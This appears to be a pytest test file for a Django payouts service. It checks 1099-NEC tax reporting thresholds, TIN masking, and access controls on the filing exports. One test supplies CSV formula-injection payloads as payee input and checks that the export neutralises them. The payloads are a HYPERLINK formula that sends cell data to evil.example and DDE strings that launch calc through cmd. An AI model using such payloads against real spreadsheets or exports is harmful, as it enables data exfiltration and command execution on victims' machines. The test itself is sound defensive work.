import csv
import io
import re
from datetime import UTC, datetime

import pytest
from django.contrib.auth.models import Permission
from django.core.management import call_command
from pypdf import PdfReader

from cadence.kernel.money import Money
from payouts.models import Payout
from payouts.selectors.tax_forms import form_1099_for, form_1099_rows, threshold_for
from payouts.services.accounts import tax_info_save
from payouts.services.batches import payout_batch_run, payout_send
from payouts.tests.helpers import confirmed_sale, payee_ready

pytestmark = pytest.mark.django_db


def pay(user_id: str, gross: int, n: int) -> None:
    """Earn 40 % of ``gross`` and pay it out now."""
    confirmed_sale(n, user_id, gross=gross)
    batch = payout_batch_run(enqueue=False)
    for payout_id in Payout.objects.filter(batch=batch).values_list("id", flat=True):
        payout_send(payout_id=payout_id)


def test_the_threshold_is_600_dollars_through_2025_and_2000_from_2026():
    assert threshold_for(2024).to_decimal_string() == "600.00"
    assert threshold_for(2025).to_decimal_string() == "600.00"
    assert threshold_for(2026).to_decimal_string() == "2000.00"
    assert threshold_for(2030).to_decimal_string() == "2000.00"


def test_only_us_payees_at_or_above_the_years_threshold_are_reported(settings):
    settings.STRIPE_API_BASE = ""
    year = datetime.now(UTC).year
    threshold = threshold_for(year).minor
    payee_ready("usr_over")
    payee_ready("usr_under")
    pay("usr_over", threshold * 10 // 4, 1)  # 40 % of it is exactly the threshold
    pay("usr_under", (threshold - 100) * 10 // 4, 2)

    rows = form_1099_rows(year=year)

    assert [(r.user_id, r.total.minor) for r in rows] == [("usr_over", threshold)]
    assert rows[0].tin_masked == "•••-••-6789"
    assert form_1099_rows(year=year - 1) == []


def test_the_filing_csv_has_the_tin_in_clear_and_the_pdf_only_masked(
    client, settings, django_user_model
):
    settings.STRIPE_API_BASE = ""
    year = datetime.now(UTC).year
    payee = django_user_model.objects.create_user(username="payee", password="x")
    payee_ready(payee.public_id)
    pay(payee.public_id, threshold_for(year).minor * 3, 1)

    out = io.StringIO()
    call_command("export_1099", "--year", str(year), stdout=out, stderr=io.StringIO())
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows[0]["tin"] == "123456789"
    paid = Money(threshold_for(year).minor * 3 * 4 // 10, "USD")  # the creator's 40 %
    assert rows[0]["nonemployee_compensation"] == paid.to_decimal_string()

    client.force_login(payee)
    response = client.get(f"/earnings/1099/{year}/statement.pdf")
    assert response["Content-Type"] == "application/pdf"
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    assert "6789" in text and "123456789" not in text and "123-45" not in text
    assert client.get(f"/earnings/1099/{year - 1}/statement.pdf").status_code == 404

    # The filing export with clear TINs is for staff with the permission only.
    assert client.get(f"/earnings/1099/{year}.csv").status_code == 403
    staff = django_user_model.objects.create_user(username="ops", password="x", is_staff=True)
    staff.user_permissions.add(Permission.objects.get(codename="view_taxinfo"))
    client.force_login(staff)
    assert "123456789" in client.get(f"/earnings/1099/{year}.csv").content.decode()


def test_a_payees_own_statement_reads_only_their_payouts(settings, django_assert_num_queries):
    settings.STRIPE_API_BASE = ""
    year = datetime.now(UTC).year
    threshold = threshold_for(year).minor
    for user_id in ["usr_a", "usr_b", "usr_small"]:
        payee_ready(user_id)
    pay("usr_a", threshold * 3, 1)
    pay("usr_b", threshold * 5, 2)
    pay("usr_small", threshold, 3)  # 40 % of it stays under the threshold

    with django_assert_num_queries(3):
        row = form_1099_for(year=year, user_id="usr_b")

    assert (row.user_id, row.total.minor) == ("usr_b", threshold * 5 * 4 // 10)
    assert form_1099_for(year=year, user_id="usr_small") is None
    assert form_1099_for(year=year - 1, user_id="usr_a") is None


def test_the_filing_csv_writes_what_payees_typed_as_text_never_as_a_formula(
    client, settings, django_user_model
):
    settings.STRIPE_API_BASE = ""
    year = datetime.now(UTC).year
    typed = {
        "legal_name": '=HYPERLINK("https://evil.example/?"&E2,"Click for refund")',
        "business_name": "+cmd|' /C calc'!A0",
        "address_line": "@SUM(1+1)*cmd|' /C calc'!A0",
        "city": "-2+3+cmd|' /C calc'!A0",
        "region": "=1+1",
        "postal_code": "@1",
    }
    payee_ready("usr_mallory")
    tax_info_save(user_id="usr_mallory", form="w9", **typed)
    pay("usr_mallory", threshold_for(year).minor * 3, 1)
    columns = {"legal_name": "recipient_name", "business_name": "business_name",
               "address_line": "address", "city": "city", "region": "state",
               "postal_code": "postal_code"}  # fmt: skip

    out = io.StringIO()
    call_command("export_1099", "--year", str(year), stdout=out, stderr=io.StringIO())
    staff = django_user_model.objects.create_user(username="ops", password="x", is_staff=True)
    staff.user_permissions.add(Permission.objects.get(codename="view_taxinfo"))
    client.force_login(staff)
    download = client.get(f"/earnings/1099/{year}.csv").content.decode()

    for document in (out.getvalue(), download):
        [row] = list(csv.DictReader(io.StringIO(document)))
        assert {name: row[column] for name, column in columns.items()} == {
            name: f"'{text}" for name, text in typed.items()
        }
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
        assert row["tin"] == "123456789"


def test_the_tax_info_page_links_the_payees_own_forms_for_each_year_they_have_one(
    client, settings, django_user_model
):
    settings.STRIPE_API_BASE = ""
    year = datetime.now(UTC).year
    payee = django_user_model.objects.create_user(username="payee", password="x")
    payee_ready(payee.public_id)
    pay(payee.public_id, threshold_for(year - 2).minor * 3, 1)
    # That payout was made two years ago; this year's is made now.
    Payout.objects.update(completed_at=datetime(year - 2, 6, 1, tzinfo=UTC))
    pay(payee.public_id, threshold_for(year).minor * 3, 2)
    client.force_login(payee)

    page = client.get("/earnings/tax-info/").content.decode()

    links = re.findall(r'href="(/earnings/1099/[^"]+)"', page)
    assert sorted(links) == sorted([
        f"/earnings/1099/{year}/statement.pdf",
        f"/earnings/1099/{year}/statement.csv",
        f"/earnings/1099/{year - 2}/statement.pdf",
        f"/earnings/1099/{year - 2}/statement.csv",
    ])  # fmt: skip
    for link in links:
        assert client.get(link).status_code == 200, link
    rows = list(csv.DictReader(io.StringIO(client.get(links[1]).content.decode())))
    assert [row["payee_id"] for row in rows] == [payee.public_id]
    assert rows[0]["tin"] == "•••-••-6789"
    assert client.get(f"/earnings/1099/{year - 1}/statement.csv").status_code == 404


def test_a_payee_without_a_form_gets_no_link_and_is_told_why(client, django_user_model):
    payee = django_user_model.objects.create_user(username="payee", password="x")
    payee_ready(payee.public_id)
    client.force_login(payee)

    page = client.get("/earnings/tax-info/").content.decode()

    assert "/earnings/1099/" not in page
    assert "You have no 1099-NEC" in page


def test_staff_with_the_permission_see_the_filing_export_of_each_year_with_filings(
    client, settings, django_user_model
):
    settings.STRIPE_API_BASE = ""
    year = datetime.now(UTC).year
    payee_ready("usr_over")
    pay("usr_over", threshold_for(year).minor * 3, 1)
    staff = django_user_model.objects.create_user(username="ops", password="x", is_staff=True)
    staff.user_permissions.add(Permission.objects.get(codename="view_taxinfo"))
    client.force_login(staff)

    page = client.get("/earnings/tax-info/").content.decode()

    assert re.findall(r'href="(/earnings/1099/\d+\.csv)"', page) == [f"/earnings/1099/{year}.csv"]
    assert client.get(f"/earnings/1099/{year}.csv").status_code == 200
